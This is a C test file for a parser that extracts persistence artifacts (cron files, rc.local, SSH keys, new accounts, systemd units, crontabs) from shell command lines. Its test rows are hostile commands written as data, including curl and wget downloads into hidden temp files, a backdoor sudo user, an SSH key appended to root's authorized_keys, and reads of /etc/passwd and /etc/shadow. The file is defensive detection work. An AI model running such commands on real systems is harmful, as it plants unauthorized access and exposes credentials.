#include "buf.h"
#include "cmdline.h"
#include "test.h"

static struct arena *a;

/* f: a file, k: a key, a: an account, u: a unit, c: a crontab. */
static void
gather(void *ctx, enum cmdline_kind kind, struct str what)
{
	struct str *all = ctx;

	*all = CAT(a, *all, all->n ? STR(" ") : STR(""), (struct str){&"fkauc"[kind], 1},
	    STR(":"), what);
}

static void
finds_what_is_left_and_nothing_else(void)
{
	static const struct {
		const char *line, *want;
	} rows[] = {
	    {"sh -c 'echo x > /etc/cron.d/a'", "f:/etc/cron.d/a"},
	    {"sh -c 'echo x >>/etc/cron.d/a; cat /etc/passwd'", "f:/etc/cron.d/a"},
	    {"bash -c \"echo a | tee -a /etc/rc.local\"", "f:/etc/rc.local"},
	    {"/usr/bin/cp /tmp/a /opt/b", "f:/opt/b"},
	    {"curl -s http://192.0.2.1/x -o /tmp/.x", "f:/tmp/.x"},
	    {"wget http://192.0.2.1/x -O - > relative", ""},
	    {"chmod +x /dev/shm/k", "f:/dev/shm/k"},
	    {"/usr/sbin/useradd -m -s /bin/bash -G sudo upd", "a:upd"},
	    {"useradd -D", ""},
	    {"systemctl enable --now upd.service", "u:upd.service"},
	    {"systemctl status ssh", ""},
	    {"crontab -u www-data -", "c:www-data"},
	    {"crontab /tmp/j", "c:"},
	    {"crontab -l", ""},
	    {"echo ssh-ed25519 "
	     "AAAAC3NzaC1lZDI1NTE5AAAAINEjNSMyjC6GnFdIf0s93oWqUih/Fv4d9ENhQdVBwpFG k "
	     ">> /root/.ssh/authorized_keys",
		"k:SHA256:1BcZX9A3fR0a3xneevlnXH4HycE+hYbpJTaN/+B7aHU "
		"f:/root/.ssh/authorized_keys"},
	    {"ssh-keygen -t rsa", ""},
	    {"ssh-rsa not*base64", ""},
	    {"cat < /etc/shadow", ""},
	    {">", ""},
	    {"", ""},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		struct str got = STR("");

		cmdline_read(a, str_of(rows[i].line), gather, &got);
		T(str_eq(got, str_of(rows[i].want)));
		if (!str_eq(got, str_of(rows[i].want)))
			fprintf(stderr, "%s: " STR_FMT "\n", rows[i].line, STR_ARG(got));
	}
}

static void
a_line_of_any_length_ends(void)
{
	struct buf b = buf_make((size_t)1 << 20);
	struct str got = STR("");

	while (!b.full)
		buf_add(&b, STR("> /a "));
	cmdline_read(a, buf_str(&b), gather, &got);
	T(got.n > 0 && got.n < 2000);
	buf_free(&b);
}

int
main(void)
{
	a = arena_new();
	FACT(finds_what_is_left_and_nothing_else);
	FACT(a_line_of_any_length_ends);
	arena_free(a);
	return TEST_END;
}
